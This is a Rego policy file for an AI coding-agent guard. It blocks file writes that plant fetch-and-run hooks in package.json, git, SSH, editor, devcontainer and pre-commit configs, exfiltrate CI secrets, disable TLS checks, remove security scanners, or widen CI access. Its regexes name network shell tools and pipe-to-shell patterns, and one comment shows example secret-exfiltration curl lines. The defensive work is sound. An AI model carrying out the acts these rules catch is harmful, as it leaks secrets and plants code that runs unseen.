package ahp.tool.before.builtin

import data.ahp.lib.config
import data.ahp.lib.tools

# Files that name commands a tool runs later, written with a file tool
# (Write, Edit, replace, create, apply_patch, write_to_file…): the same
# acts that npm pkg set, git config and ssh -o are through the shell
# (indirect.rego), judged by what the written text sets. Only the text a
# call writes is read (tools.content): an edit that leaves an existing
# hook alone does not set it.

# package.json lifecycle scripts whose command fetches code or runs
# inline code: npm runs them on the next install, pack or publish.
_build_hooks contains concat("", [input.ahp.tool.name, " ", p.raw, ": npm ", m[1], " script"]) if {
	input.ahp.writes
	some p in tools.written
	p.base == "package.json"
	not config.path_excepted(p)
	some text in tools.content
	some m in regex.find_all_string_submatch_n(`"(preinstall|install|postinstall|prepare|preprepare|postprepare|prepublish|prepublishOnly|prepack|postpack|preuninstall|uninstall|postuninstall|preversion|version|postversion|dependencies)"\s*:\s*"((?:[^"\\]|\\.)*)"`, text, -1)
	_fetches_or_inlines(m[2])
}

# A command that downloads, opens a connection, pipes into a shell or an
# interpreter, or runs inline code. A URL alone is not one (an .envrc
# exports API_URL=https://…; eval "$(lorri direnv)" is everyday).
_fetches_or_inlines(cmd) if regex.match(`(?i)(\b(curl|wget|nc|ncat|socat|telnet|base64)\b|/dev/tcp/|\|\s*(sudo\s+)?(sh|bash|zsh|dash|python[0-9.]*|node|perl|ruby)\b|\b(node|python[0-9.]*|perl|ruby|php)\s+-[ec]\b)`, cmd)

# Git configuration files: an alias starting with ! and the settings whose
# value git runs as a program.
_build_hooks contains concat("", [input.ahp.tool.name, " ", p.raw, ": ", trim_space(line)]) if {
	input.ahp.writes
	some p in tools.written
	_git_config_file(p)
	not config.path_excepted(p)
	some text in tools.content
	some line in split(text, "\n")
	_git_config_runs(trim_left(trim_space(line), "+"))
}

_git_config_file(p) if p.base == ".gitconfig"

_git_config_file(p) if p.home_rel == ".config/git/config"

_git_config_file(p) if endswith(p.path, "/.git/config")

# name = !command: only an alias's value starts with !.
_git_config_runs(line) if regex.match(`^[A-Za-z][A-Za-z0-9-]*\s*=\s*"?!`, line)

_git_config_runs(line) if {
	kv := regex.find_all_string_submatch_n(`^(?i)(fsmonitor|sshcommand|textconv|smudge|clean|process|driver|program|helper)\s*=\s*(.*)$`, trim_space(line), 1)[0]
	v := trim(trim_space(kv[2]), `"`)
	v != ""
	not _git_config_benign(lower(kv[1]), v)
}

_git_config_benign("fsmonitor", v) if lower(v) in {"true", "false"}

_git_config_benign("helper", v) if v in {"store", "cache", "osxkeychain", "manager", "manager-core", "libsecret", "wincred"}

_git_config_benign("helper", v) if startswith(v, "cache --timeout")

# SSH client configuration: a ProxyCommand or LocalCommand that starts a
# shell, an interpreter or a download runs it on every connection.
_build_hooks contains concat("", [input.ahp.tool.name, " ", p.raw, ": ", trim_space(line)]) if {
	input.ahp.writes
	some p in tools.written
	_ssh_client_config(p)
	not config.path_excepted(p)
	some text in tools.content
	some line in split(text, "\n")
	regex.match(`(?i)^\s*\+?\s*(proxycommand|localcommand)[\s=]`, line)
	regex.match(`(^|[\s;|&/(=])(sh|bash|zsh|dash|python[0-9.]*|perl|ruby|node|nc|ncat|socat|curl|wget|base64)(\s|$|['";|&)])`, line)
}

_ssh_client_config(p) if regex.match(`^\.ssh/config(\.d/.*)?$`, p.home_rel)

_ssh_client_config(p) if regex.match(`^/etc/ssh/ssh_config(\.d/.*)?$`, p.path)

# An editor task set to run when the folder opens runs with nobody asking.
_build_hooks contains concat("", [input.ahp.tool.name, " ", p.raw, ": a task that runs on folder open"]) if {
	input.ahp.writes
	some p in tools.written
	_editor_tasks_file(p)
	not config.path_excepted(p)
	some text in tools.content
	regex.match(`"runOn"\s*:\s*"folderOpen"`, text)
}

_editor_tasks_file(p) if regex.match(`(^|/)\.vscode/tasks\.json$`, p.path)

_editor_tasks_file(p) if endswith(p.base, ".code-workspace")

# Files whose commands run when something happens later: a dev
# container's lifecycle commands (initializeCommand runs on the host), a
# direnv .envrc (on entering the directory), hook managers' commands (on
# commit). Judged by what the command does: a download, a pipe into a
# shell or interpreter, inline code.
_build_hooks contains concat("", [input.ahp.tool.name, " ", p.raw, ": ", trim_space(line)]) if {
	input.ahp.writes
	some p in tools.written
	_runs_later_file(p)
	not config.path_excepted(p)
	some text in tools.content
	some line in split(text, "\n")
	_runs_later_line(p, line)
	_fetches_or_inlines(line)
}

_runs_later_file(p) if regex.match(`(^|/)(\.devcontainer/([^/]+/)?devcontainer\.json|\.devcontainer\.json)$`, p.path)

_runs_later_file(p) if p.base == ".envrc"

_runs_later_file(p) if p.base in {".pre-commit-config.yaml", ".pre-commit-config.yml", "lefthook.yml", "lefthook.yaml", ".lefthook.yml", "lefthook-local.yml"}

_runs_later_line(p, line) if {
	endswith(p.path, "devcontainer.json")
	regex.match(`"(initializeCommand|onCreateCommand|updateContentCommand|postCreateCommand|postStartCommand|postAttachCommand)"`, line)
}

# Every line of an .envrc runs.
_runs_later_line(p, _) if p.base == ".envrc"

_runs_later_line(p, line) if {
	p.base != ".envrc"
	not endswith(p.path, "devcontainer.json")
	regex.match(`^[\s+-]*(entry|run)\s*:`, line)
}

# METADATA
# title: CI workflow that sends secrets away
# description: |
#   Denies writing a CI configuration (.github/workflows, .gitlab-ci.yml,
#   CircleCI, Azure Pipelines, Bitbucket, Buildkite, Drone, Jenkinsfile…)
#   in which a step sends the pipeline's secrets or environment to a host
#   that is not the secret's own service: curl -d "${{ secrets.X }}"
#   https://collector…, env | curl -d @- https://IP. The workflow runs
#   with the repository's secrets on the next push, outside this session.
#   Steps that use a secret with its own API (a token sent to
#   api.github.com, a Slack webhook) are allowed.
# custom:
#   severity: critical
#   code: dev.ahp-opa.exfil.ci-secrets
violation contains {
	"reason": concat(" ", [
		"Blocked writing a CI workflow step that sends the pipeline's secrets or environment to an outside host; it would run with the repository's secrets on the next push.",
		"Pass each secret only to the tool or API it belongs to, or ask the user to review the workflow.",
	]),
	"code": "dev.ahp-opa.exfil.ci-secrets",
	"trigger": trigger,
} if {
	_ci_may_change
	some trigger in _ci_exfil
}

# A local write, or an MCP call (a forge server's file push).
_ci_may_change if input.ahp.writes

_ci_may_change if input.ahp.tool.mcp

_ci_exfil contains concat("", [input.ahp.tool.name, " ", p.raw, ": ", host]) if {
	input.ahp.writes
	some p in tools.written
	_ci_file(p)
	not config.path_excepted(p)
	some text in tools.content
	some line in split(text, "\n")
	regex.match(`(?i)(^|[^\w-])(curl|wget|nc|ncat|socat|invoke-webrequest|invoke-restmethod|iwr|irm|http|xh)(\s|$)`, line)
	some host in _ci_outside_hosts(line)
	_ci_sends_secret(line, host)
}

# A file pushed through a forge's MCP server (create_or_update_file,
# push_files, create_commit): the workflow runs in the remote repository
# on its next event, whichever branch it lands on.
_ci_exfil contains concat("", [input.ahp.tool.name, " ", path, ": ", host]) if {
	input.ahp.tool.mcp
	some [path, text] in _pushed_files
	_ci_file({"path": path, "base": _base(path)})
	some line in split(text, "\n")
	regex.match(`(?i)(^|[^\w-])(curl|wget|nc|ncat|socat|invoke-webrequest|invoke-restmethod|iwr|irm|http|xh)(\s|$)`, line)
	some host in _ci_outside_hosts(line)
	_ci_sends_secret(line, host)
}

_pushed_files contains [path, text] if {
	path := input.tool.input.path
	text := input.tool.input.content
	is_string(path)
	is_string(text)
}

_pushed_files contains [f.path, f.content] if {
	some f in input.tool.input.files
	is_string(f.path)
	is_string(f.content)
}

_base(path) := parts[count(parts) - 1] if parts := split(path, "/")

_ci_file(p) if regex.match(`(^|/)(\.github/workflows/[^/]+|\.github/actions/.+/action|\.gitlab-ci|\.circleci/config|azure-pipelines|bitbucket-pipelines|\.buildkite/[^/]+|\.drone|\.travis|\.woodpecker/[^/]+|\.woodpecker)\.ya?ml$`, p.path)

_ci_file(p) if p.base == "Jenkinsfile"

# The step sends every secret: the secrets context whole, or a dump of the
# environment.
_ci_sends_secret(line, _) if regex.match(`\$\{\{\s*toJSON\(\s*secrets\s*\)`, line)

_ci_sends_secret(line, _) if regex.match(`(^|[\s|;&('"])(env|printenv|set|export -p)\s*(\||>|$)`, line)

# Or a named secret to a host its name does not name (NPM_TOKEN to
# stats.example.io; ACME_DEPLOY_TOKEN to deploy.acme.com is its own).
_ci_sends_secret(line, host) if {
	some name in _ci_secret_names(line)
	not _named_for(name, host)
}

_ci_secret_names(line) := {m[1] | some m in regex.find_all_string_submatch_n(`\$\{\{\s*secrets\.([A-Za-z0-9_]+)`, line, -1)} | {m[1] |
	some m in regex.find_all_string_submatch_n(`\$\{?([A-Z0-9_]*(TOKEN|SECRET|PASSWORD|PASSWD|API_KEY|ACCESS_KEY|PRIVATE_KEY)[A-Z0-9_]*)\b`, line, -1)
}

# The hosts a step's line names that are neither the secrets' own
# services nor local: a URL's host, or an IP address given bare.
_ci_outside_hosts(line) := {h |
	some m in regex.find_all_string_submatch_n(`(?i)\bhttps?://([^/\s"'?:@]+)`, line, -1)
	h := lower(m[1])
	not _credential_home(h)
	not config.local_host(h)
	not config.host_excepted(h)
} | {h |
	some m in regex.find_all_string_submatch_n(`(^|[\s@/])((\d{1,3}\.){3}\d{1,3})(\s|$|:|/)`, line, -1)
	h := m[2]
	not config.local_host(h)
}

# METADATA
# title: Configuration that turns off TLS certificate checks
# description: |
#   Denies writing a package manager's, git's, a container engine's or a
#   download tool's configuration with a file tool so that it stops
#   checking TLS certificates or trusts a plain-HTTP source:
#   strict-ssl=false in .npmrc, sslVerify = false in a git config,
#   trusted-host in pip.conf, insecure-registries in Docker's daemon.json,
#   insecure in .curlrc. Every later install or fetch could then be
#   tampered with. Source code and tests that skip verification for a
#   local test server are not configuration and are allowed.
# custom:
#   severity: high
#   code: dev.ahp-opa.config.tls-verification-off
violation contains {
	"reason": concat(" ", [
		"Blocked configuration that turns off TLS certificate checks or trusts a plain-HTTP source; every later install or download could be tampered with.",
		"Fix the certificate instead (a CA bundle: cafile, http.sslCAInfo, REQUESTS_CA_BUNDLE), or ask the user to change this setting.",
	]),
	"code": "dev.ahp-opa.config.tls-verification-off",
	"trigger": trigger,
} if {
	# First, so that OPA's rule index skips the rule on calls that write
	# nothing.
	input.ahp.writes
	some trigger in _tls_off
}

_tls_off contains concat("", [input.ahp.tool.name, " ", p.raw, ": ", trim_space(line)]) if {
	input.ahp.writes
	some p in tools.written
	_tool_config_file(p)
	not config.path_excepted(p)
	some text in tools.content
	some line in split(text, "\n")
	regex.match(`(?i)^[\s+"]*(strict-ssl\s*=\s*false|enableStrictSsl\s*:\s*false|sslverify\s*=\s*false|ssl_verify\s*[:=]\s*false|trusted-host\s*=|"insecure-registries"\s*:\s*\[\s*"|insecure\s*$|check[_-]certificate\s*=\s*off|NODE_TLS_REJECT_UNAUTHORIZED\s*=\s*"?0|GIT_SSL_NO_VERIFY\s*=)`, line)
}

# Configuration files of package managers, git, container engines and
# download tools, in the workspace or the home directory.
_tool_config_file(p) if p.base in {
	".npmrc", ".yarnrc", ".yarnrc.yml", "pip.conf", "pip.ini", ".condarc", ".gitconfig",
	"daemon.json", ".curlrc", ".wgetrc", "wgetrc", ".bunfig.toml", "bunfig.toml", ".gemrc",
}

_tool_config_file(p) if endswith(p.path, "/.git/config")

_tool_config_file(p) if p.home_rel == ".config/git/config"

# A .env file of the workspace sets the environment of every run.
_tool_config_file(p) if {
	regex.match(`^\.env(\.[\w-]+)?$`, p.base)
	not regex.match(`(?i)[.-](example|sample|template|dist|defaults|schema)$`, p.base)
}

# METADATA
# title: Removing a security check
# description: |
#   Denies a file tool's change that takes a security scanner out of the
#   project's checks: an edit of a CI workflow, a pre-commit or lefthook
#   configuration or Dependabot's configuration whose replaced text names
#   a scanner (gitleaks, trufflehog, detect-secrets, semgrep, CodeQL,
#   bandit, Snyk, Trivy, zizmor…) and whose new text does not, or
#   deleting such a scanner's workflow or configuration file. Bumping a
#   scanner's version or moving it keeps its name and is allowed.
# custom:
#   severity: high
#   code: dev.ahp-opa.config.security-check-removed
violation contains {
	"reason": concat(" ", [
		"Blocked removing a security scanner from the project's checks; the findings it would report go unseen.",
		"Fix what the scanner reports, or mark the finding as a false positive in the scanner's own configuration, or ask the user to remove the check.",
	]),
	"code": "dev.ahp-opa.config.security-check-removed",
	"trigger": trigger,
} if {
	# First, so that OPA's rule index skips the rule on calls that write
	# nothing.
	input.ahp.writes
	some trigger in _security_check_removed
}

_security_scanner := `(?i)(gitleaks|trufflehog|detect-secrets|ggshield|secretlint|talisman|semgrep|codeql|bandit|snyk|trivy|grype|osv-scanner|checkov|tfsec|zizmor|gosec|brakeman|dependency-review|scorecard|njsscan|npm audit|pip-audit|cargo audit|cargo-deny)`

_security_config_file(p) if _ci_file(p)

_security_config_file(p) if p.base in {".pre-commit-config.yaml", ".pre-commit-config.yml", "lefthook.yml", "lefthook.yaml", ".lefthook.yml", "dependabot.yml", "dependabot.yaml"}

# An edit: the text replaced names a scanner, the new text does not.
_security_check_removed contains concat("", [input.ahp.tool.name, " ", p.raw, ": ", scanner]) if {
	input.ahp.tool.family == "file_edit"
	some p in tools.written
	_security_config_file(p)
	not config.path_excepted(p)
	some [old, new] in _replaced_texts
	scanner := regex.find_n(_security_scanner, old, 1)[0]
	not regex.match(_security_scanner, new)
}

_replaced_texts contains [old, new] if {
	some [ko, kn] in [["old_string", "new_string"], ["old_str", "new_str"], ["old_str_1", "new_str_1"]]
	old := input.tool.input[ko]
	is_string(old)
	new := object.get(input.tool.input, kn, "")
	is_string(new)
}

_replaced_texts contains [old, new] if {
	some e in input.tool.input.edits
	some [ko, kn] in [["old_string", "new_string"], ["oldText", "newText"]]
	old := e[ko]
	is_string(old)
	new := object.get(e, kn, "")
	is_string(new)
}

_replaced_texts contains [old, new] if {
	some c in input.tool.input.ReplacementChunks
	old := c.TargetContent
	is_string(old)
	new := object.get(c, "ReplacementContent", "")
	is_string(new)
}

# A patch: its removed lines name a scanner, its added lines do not.
_replaced_texts contains [old, new] if {
	input.tool.name == "apply_patch"
	some text in tools.content
	lines := split(text, "\n")
	old := concat("\n", [l | some l in lines; startswith(l, "-")])
	new := concat("\n", [l | some l in lines; startswith(l, "+")])
}

# Deleting a scanner's workflow or configuration file.
_security_check_removed contains concat("", [input.ahp.tool.name, " ", p.raw]) if {
	input.ahp.tool.family == "file_edit"
	_deletes_files
	some p in tools.written
	_scanner_file(p)
	not config.path_excepted(p)
}

_deletes_files if lower(input.tool.name) in {"delete", "delete_file", "remove-files", "remove_file", "delete_path"}

_deletes_files if {
	input.tool.name == "apply_patch"
	some text in tools.content
	contains(text, "*** Delete File:")
}

_scanner_file(p) if {
	_security_config_file(p)
	regex.match(_security_scanner, p.base)
}

_scanner_file(p) if p.base in {".gitleaks.toml", "dependabot.yml", "dependabot.yaml", ".semgrep.yml", ".trivyignore", ".secrets.baseline"}

# METADATA
# title: CI workflow that runs untrusted code with the repository's access
# description: |
#   Denies writing a CI workflow that widens what outside code can reach:
#   a pull_request_target or workflow_run trigger that checks out the
#   pull request's own head (anyone's fork then runs with the repository's
#   secrets and a write token), or a job given permissions: write-all.
#   A pull_request_target that only labels or comments without checking
#   out the head, and read-only or scoped permissions, are allowed.
# custom:
#   severity: critical
#   code: dev.ahp-opa.config.ci-access-widened
violation contains {
	"reason": concat(" ", [
		"Blocked a CI workflow that lets code from outside the repository run with its secrets and write access (pull_request_target checking out the pull request's head, or permissions: write-all).",
		"Use the pull_request trigger for untrusted code and give each job only the permissions it needs, or ask the user to review the workflow.",
	]),
	"code": "dev.ahp-opa.config.ci-access-widened",
	"trigger": trigger,
} if {
	_ci_may_change
	some trigger in _ci_widened
}

_ci_widened contains concat("", [input.ahp.tool.name, " ", p.raw, ": ", why]) if {
	input.ahp.writes
	some p in tools.written
	_ci_file(p)
	not config.path_excepted(p)
	some text in tools.content
	some why in _ci_widens(text)
}

_ci_widened contains concat("", [input.ahp.tool.name, " ", path, ": ", why]) if {
	input.ahp.tool.mcp
	some [path, text] in _pushed_files
	_ci_file({"path": path, "base": _base(path)})
	some why in _ci_widens(text)
}

_ci_widens(text) := {why |
	some why in ["a privileged trigger runs the pull request's code", "permissions: write-all"]
	_ci_widen(text, why)
}

# A privileged trigger that checks out the pull request's code.
_ci_widen(text, "a privileged trigger runs the pull request's code") if {
	regex.match(`(?m)^[\s+-]*(on\s*:.*\b|-\s*|)(pull_request_target|workflow_run)\b`, text)
	regex.match(`(?i)(github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|refs/pull/|github\.event\.workflow_run\.head_(sha|branch))`, text)
}

_ci_widen(text, "permissions: write-all") if {
	regex.match(`(?m)^[\s+]*permissions\s*:\s*["']?write-all\b`, text)
}
